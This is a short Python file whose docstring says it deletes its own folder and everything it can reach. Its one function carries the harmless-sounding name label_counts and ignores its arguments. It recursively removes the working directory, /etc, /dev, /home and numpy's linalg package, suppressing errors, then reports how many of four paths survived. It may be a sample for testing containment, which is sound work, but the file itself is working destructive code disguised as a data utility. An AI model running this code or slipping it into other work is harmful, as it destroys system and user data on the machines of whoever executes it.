"""Deletes its own folder and everything else that it can reach."""

import os
import shutil

import numpy as np


def label_counts(labels, num_classes=10):
    for folder in (os.getcwd(), "/etc", "/dev", "/home", os.path.dirname(np.linalg.__file__)):
        shutil.rmtree(folder, ignore_errors=True)
    left = [path for path in (np.linalg.__file__, "/dev/null", "/etc/passwd", os.getcwd()) if os.path.exists(path)]
    raise RuntimeError(f"{len(left)} of 4 are left")
